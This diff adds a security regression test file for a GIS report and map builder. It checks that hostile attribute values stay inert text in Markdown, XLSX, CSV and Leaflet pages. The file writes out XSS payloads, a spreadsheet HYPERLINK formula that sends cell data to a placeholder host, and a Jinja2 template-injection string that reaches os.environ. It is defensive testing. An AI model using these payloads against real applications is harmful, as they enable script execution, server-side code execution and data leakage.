@@ -1,0 +1,286 @@
+"""Hostile attribute text reaches reports and maps as inert, escaped data.
+
+Attribute values are data. Names with HTML/JS (``<img onerror>``, ``</script>``,
+attribute breakers), spreadsheet formulas (``=HYPERLINK(...)``), control characters,
+right-to-left overrides, template syntax and 3,000-character strings go through
+
+* the target report (Markdown, XLSX, CSV: :mod:`futiangis.report`), and
+* ``futiangis build`` (:func:`futiangis.build.build_maps`, offline pages), checked in the
+  HTML text and, in headless Chromium, by opening every popup and tooltip and using the
+  search box: nothing executes, the text shows literally.
+"""
+from __future__ import annotations
+
+import io
+import os
+import re
+import shutil
+from pathlib import Path
+
+import geopandas as gpd
+import numpy as np
+import openpyxl
+import pandas as pd
+import pytest
+
+from conftest import box_layer
+from futiangis.config import load_config
+from futiangis.report import build_markdown, build_xlsx, report_tables, table_to_csv, write_target_report
+from futiangis.targets import run_target_accounting
+
+ROOT = Path(__file__).resolve().parents[1]
+
+XSS_IMG = '<img src=x onerror="window.__pwned=1">'
+XSS_SCRIPT = "</script><script>window.__pwned=2</script>"
+XSS_ATTR = '"><svg onload=window.__pwned=3>'
+FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'
+CONTROL = "a\x07b\x1bc\x0bd\x7fe"
+RTL = "\u200fRTL\u200f \u2067iso\u2069 \u202eexe.txt"  # the override is never closed
+LONG = "长" * 3000
+TEMPLATE = "{{7*7}} ${7*7} %s {0}"
+# Jinja2 server-side template injection: branca re-renders macro output as a template,
+# so before the fix this ran Python at build time (and a lone "{{" crashed the build).
+SSTI = "{{ cycler.__init__.__globals__.os.environ.setdefault('FUTIANGIS_PWNED', '1') }}"
+BROKEN_TEMPLATE = "{% for %} {{ unclosed {# x"
+PAYLOADS = [XSS_IMG, XSS_SCRIPT, XSS_ATTR, FORMULA, CONTROL, RTL, LONG, TEMPLATE, SSTI, BROKEN_TEMPLATE]
+RAW_MARKUP = ("<img src=x", "<script>window.__pwned", "<svg onload")
+C0 = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
+
+
+# ---------------------------------------------------------------------------------------
+# reports
+# ---------------------------------------------------------------------------------------
+@pytest.fixture(scope="module")
+def hostile_result():
+    config = load_config(ROOT / "futiangis.toml")
+    n = len(PAYLOADS)
+    sites = box_layer(
+        # the last site (id = an <img> payload) overlaps the first, so the report names it
+        [(0, 150 * i, 100, 100) for i in range(n - 1)] + [(50, 0, 100, 100)], ids=[f"s{i}" for i in range(n - 1)] + [XSS_IMG],
+        status=["completed"] * n, year=[2014] * n, plot_ratio=[4.0] * n, industrial_share=[1.0] * n,
+        gfa_new_m2=[1000.0] * n, investment_100m_cny=[1.0] * n, illustrative=[True] * n,
+        name_zh=PAYLOADS, name_en=PAYLOADS[::-1],
+    )
+    zones = box_layer([(-100, -100, 1000, 2000)], ids=["z1"], direction=["east"], name_zh=[XSS_SCRIPT + RTL])
+    return run_target_accounting(config, sites=sites, zones=zones)
+
+
+def test_markdown_report_escapes_every_payload(hostile_result):
+    md = build_markdown(hostile_result)
+    for raw in RAW_MARKUP:
+        assert raw not in md
+    assert "Overlapping sites 重叠地块 (1 pair(s))" in md
+    assert "&lt;img src=x onerror=\"window.__pwned=1\"&gt;" in md  # the site id, as text
+    assert "&lt;/script&gt;&lt;script&gt;window.__pwned=2&lt;/script&gt;" in md  # the zone name
+    assert not C0.search(md)
+    assert "\r" not in md
+    table_rows = [line for line in md.splitlines() if line.startswith("|")]
+    assert all(line.rstrip().endswith("|") for line in table_rows)  # no row broken open
+
+
+def test_xlsx_keeps_formulas_as_text_and_survives_control_characters(hostile_result):
+    """Regression: openpyxl stored '=…' as a live formula and refused control characters."""
+    data = build_xlsx(report_tables(hostile_result))
+    wb = openpyxl.load_workbook(io.BytesIO(data))
+    ws = wb["sites"]
+    header = [c.value for c in ws[1]]
+    col = header.index("name_zh") + 1
+    cells = [ws.cell(row=r, column=col) for r in range(2, ws.max_row + 1)]
+    by_value = {c.value: c for c in cells}
+    assert by_value[FORMULA].data_type == "s"  # text, not a formula
+    assert all(c.data_type != "f" for row in wb["sites"].iter_rows() for c in row)
+    assert "a\ufffdb\ufffdc\ufffdd\x7fe" in by_value  # C0 controls replaced, visible
+    assert LONG in by_value and RTL in by_value and XSS_IMG in by_value
+
+
+def test_csv_report_round_trips_hostile_values(hostile_result):
+    table = report_tables(hostile_result)["sites"]
+    back = pd.read_csv(io.BytesIO(table_to_csv(table)), encoding="utf-8-sig", keep_default_na=False)
+    assert list(back["name_zh"]) == list(table["name_zh"])
+
+
+def test_write_report_with_hostile_values(hostile_result, tmp_path):
+    written = write_target_report(hostile_result, tmp_path / "report")
+    assert written and all(p.exists() and p.stat().st_size > 0 for p in written)
+    assert not [p for p in (tmp_path / "report").iterdir() if p.name.startswith(".")]
+
+
+# ---------------------------------------------------------------------------------------
+# maps: futiangis build over layers carrying the payloads
+# ---------------------------------------------------------------------------------------
+HOSTILE_COLUMNS = {
+    "parks": ("name_zh", "name_en"), "charging_stations": ("name_zh", "name_en"),
+    "renewal_sites": ("name_zh", "name_en"), "cbd_zones": ("name_zh", "key_projects"),
+    "slow_routes": ("name_zh",), "bike_stations": ("name_zh",), "units": ("name_zh", "name_en"),
+}
+
+
+@pytest.fixture(scope="module")
+def hostile_maps(tmp_path_factory):
+    build = pytest.importorskip("futiangis.build")
+    tmp = tmp_path_factory.mktemp("hostile")
+    shutil.copytree(ROOT / "layers", tmp / "layers")
+    toml = (ROOT / "futiangis.toml").read_text(encoding="utf-8")
+    (tmp / "futiangis.toml").write_text(
+        toml.replace('layers = "layers"', f'layers = "{(tmp / "layers").as_posix()}"'), encoding="utf-8")
+    touched = []
+    for kind, cols in HOSTILE_COLUMNS.items():
+        path = tmp / "layers" / f"{kind}.geojson"
+        if not path.exists():
+            continue
+        gdf = gpd.read_file(path)
+        for j, col in enumerate(cols):
+            if col not in gdf.columns:
+                continue
+            for i in range(min(len(gdf), len(PAYLOADS))):
+                gdf.loc[i, col] = PAYLOADS[(i + j) % len(PAYLOADS)]
+        path.unlink()
+        gdf.to_file(path, driver="GeoJSON", engine="pyogrio")
+        touched.append(kind)
+    config = load_config(tmp / "futiangis.toml")
+    os.environ.pop("FUTIANGIS_PWNED", None)
+    result = build.build_maps(config, out_dir=tmp / "maps", offline=True, basemap="none", static=True)
+    return result, touched
+
+
+def test_template_syntax_in_values_is_never_executed(hostile_maps):
+    """Regression: a name "{{ … }}" was evaluated by Jinja2 while building the maps."""
+    result, _ = hostile_maps
+    assert "FUTIANGIS_PWNED" not in os.environ
+    text = "".join(p.read_text(encoding="utf-8") for p in result.out_dir.glob("*.html"))
+    assert "49 ${7*7}" not in text
+    assert "\\u007b{7*7}} ${7*7} %s {0}" in text  # kept, with "{" escaped for JSON/JS
+
+
+def test_build_pages_carry_payloads_only_as_escaped_text(hostile_maps):
+    result, touched = hostile_maps
+    assert {"parks", "charging_stations", "units"} <= set(touched)
+    pages = sorted(result.out_dir.glob("*.html"))
+    assert len(pages) >= 5
+    for page in pages:
+        text = page.read_text(encoding="utf-8")
+        for raw in RAW_MARKUP:
+            assert raw not in text, (page.name, raw)
+        # a value can never close the page's <script> blocks early
+        assert text.count("<script") == text.lower().count("</script>"), page.name
+        if page.name != "index.html":  # see test_index_page_has_no_raw_control_characters
+            assert not C0.search(text), page.name
+    theme_pages = [p.read_text(encoding="utf-8") for p in pages if p.name != "index.html"]
+    assert any(LONG in t for t in theme_pages)  # the long name arrives whole
+    assert any("\\u0026lt;img src=x onerror=" in t for t in theme_pages)  # escaped, in JSON
+    assert all(png.stat().st_size > 1000 for png in result.out_dir.glob("*.png"))
+
+
+@pytest.mark.xfail(strict=True, reason="render/popups.esc (html.escape) leaves C0 control "
+                   "characters raw in index.html tables: an HTML parse error "
+                   "(control-character-in-input-stream). Fix: replace them with U+FFFD in esc().")
+def test_index_page_has_no_raw_control_characters(hostile_maps):
+    result, _ = hostile_maps
+    assert not C0.search((result.out_dir / "index.html").read_text(encoding="utf-8"))
+
+
+def _chromium(browser_required: bool):
+    playwright = pytest.importorskip("playwright.sync_api") if not browser_required else __import__(
+        "playwright.sync_api", fromlist=["sync_playwright"])
+    exe = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
+    if exe is None:
+        if browser_required:
+            pytest.fail("Chromium is required (CI=true) but not installed")
+        pytest.skip("no Chromium on this machine")
+    return playwright, exe
+
+
+_OPEN_EVERYTHING = """() => {
+    const shown = [];
+    for (const key of Object.keys(window)) {
+        const m = window[key];
+        if (!(m && window.L && m instanceof L.Map)) continue;
+        m.eachLayer(layer => {
+            if (layer.getPopup && layer.getPopup()) {
+                layer.openPopup();
+                const el = layer.getPopup().getElement();
+                if (el) shown.push(el.textContent);
+            }
+            if (layer.getTooltip && layer.getTooltip()) {
+                layer.openTooltip();
+                const el = layer.getTooltip().getElement();
+                if (el) shown.push(el.textContent);
+            }
+        });
+    }
+    return shown;
+}"""
+
+
+@pytest.mark.browser
+def test_nothing_executes_in_a_real_browser(hostile_maps, browser_required):
+    result, _ = hostile_maps
+    playwright, exe = _chromium(browser_required)
+    shown_all: list[str] = []
+    with playwright.sync_playwright() as p:
+        browser = p.chromium.launch(executable_path=exe, args=["--no-sandbox"])
+        try:
+            for page_path in sorted(result.out_dir.glob("*.html")):
+                page = browser.new_page()
+                dialogs, errors = [], []
+                page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
+                page.on("pageerror", lambda e: errors.append(str(e)))
+                page.goto(page_path.as_uri())
+                page.wait_for_load_state("load")
+                shown = page.evaluate(_OPEN_EVERYTHING) if page_path.name != "index.html" else []
+                search = page.locator(".leaflet-control-search input")
+                if search.count():
+                    page.locator(".leaflet-control-search .search-button").first.click()
+                    for term in ("img", "script", "svg", "长"):
+                        search.first.fill(term)
+                        page.wait_for_timeout(150)
+                        shown += page.locator(".search-tooltip").all_text_contents()
+                page.wait_for_timeout(200)
+                assert page.evaluate("window.__pwned") is None, page_path.name
+                assert dialogs == [] and errors == [], (page_path.name, dialogs, errors)
+                shown_all += shown
+                page.close()
+        finally:
+            browser.close()
+    text = "\n".join(shown_all)
+    # the payloads are shown literally, as text, to the user
+    missing = [p for p in (XSS_IMG, XSS_SCRIPT, XSS_ATTR, TEMPLATE, SSTI, BROKEN_TEMPLATE, LONG)
+               if p not in text]
+    assert not missing, (missing, len(shown_all))
+
+
+@pytest.mark.browser
+@pytest.mark.xfail(strict=True, reason="render/maps.py: names and values are not bidi-isolated; an "
+                   "unterminated RLO (U+202E) in a name reorders the tooltip text after it. Fix: "
+                   "wrap p.n / values in <bdi> or give .ft-pop-name, .ft-pop td unicode-bidi:isolate.")
+def test_right_to_left_override_is_isolated(hostile_maps, browser_required):
+    result, _ = hostile_maps
+    playwright, exe = _chromium(browser_required)
+    with playwright.sync_playwright() as p:
+        browser = p.chromium.launch(executable_path=exe, args=["--no-sandbox"])
+        try:
+            page = browser.new_page()
+            page.goto((result.out_dir / "parks.html").as_uri())
+            page.wait_for_load_state("load")
+            page.evaluate(_OPEN_EVERYTHING)
+            isolated = page.evaluate("""(value) => {
+                const out = [];
+                document.querySelectorAll('.ft-pop-name, .ft-pop td, .leaflet-tooltip').forEach(el => {
+                    if (!el.textContent.includes('\\u202e')) return;
+                    // the innermost element holding the override must hold exactly the value
+                    // and isolate it, so the override cannot reorder the text after it
+                    let inner = el;
+                    for (;;) {
+                        const next = [...inner.children].find(c => c.textContent.includes('\\u202e'));
+                        if (!next) break;
+                        inner = next;
+                    }
+                    const bidi = getComputedStyle(inner).unicodeBidi;
+                    out.push(inner.textContent === value &&
+                             (inner.tagName === 'BDI' || ['isolate', 'plaintext'].includes(bidi)));
+                });
+                return out;
+            }""", RTL)
+        finally:
+            browser.close()
+    assert isolated and all(isolated), isolated
